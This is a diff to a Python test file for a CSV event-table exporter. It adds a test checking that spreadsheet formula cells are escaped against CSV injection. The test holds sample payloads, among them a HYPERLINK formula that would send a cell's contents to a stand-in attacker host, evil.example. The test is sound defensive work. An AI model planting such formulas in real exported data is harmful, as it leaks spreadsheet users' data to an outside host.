@@ -201,3 +201,25 @@ def test_event_table_gives_full_cameo_codes_and_sectors():
     corpus = replace(corpus, entities=tuple(replace(e, sector="MIL") if e.key == "PRK" else e for e in corpus.entities))
     table = list(csv.DictReader(io.StringIO(formats.export(to_dataset(corpus), "events-csv"))))
     assert [(r["actor"], r["cameo"], r["actor_sector"]) for r in table] == [("North Korea", "0234", "MIL"), ("South Korea", "07", "")]
+
+
+def test_event_table_cells_that_a_spreadsheet_would_run_are_neutralised():
+    """OWASP, CSV Injection: a cell that starts with = + - @ (or tab, CR) is a formula to a spreadsheet."""
+    import dataclasses
+
+    from kg.model import Document
+
+    sample = make_sample_corpus()
+    documents = (Document("=HYPERLINK(\"http://evil.example/?\"&A1)", sample.documents[0].text, "2024-11-14"),
+                 dataclasses.replace(sample.documents[1], id="@SUM(1+1)"))
+    entities = tuple(dataclasses.replace(e, label="-2+3 Korea") if e.key == "KOR" else e for e in sample.entities)
+    mentions = tuple(dataclasses.replace(m, doc_id=documents[0].id if m.doc_id == "d1" else documents[1].id) for m in sample.mentions)
+    events = tuple(dataclasses.replace(e, evidence=tuple(dataclasses.replace(v, doc_id=documents[0].id if v.doc_id == "d1" else documents[1].id)
+                                                          for v in e.evidence)) for e in sample.events)
+    table = list(csv.DictReader(io.StringIO(formats.export(to_dataset(dataclasses.replace(
+        sample, documents=documents, entities=entities, mentions=mentions, events=events)), "events-csv"))))
+    assert [(r["actor"], r["first_source"]) for r in table] == [
+        ("North Korea", "'@SUM(1+1)"),
+        ("'-2+3 Korea", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
+    ]
+    assert all(not value.startswith(("=", "+", "-", "@")) for row in table for value in row.values())
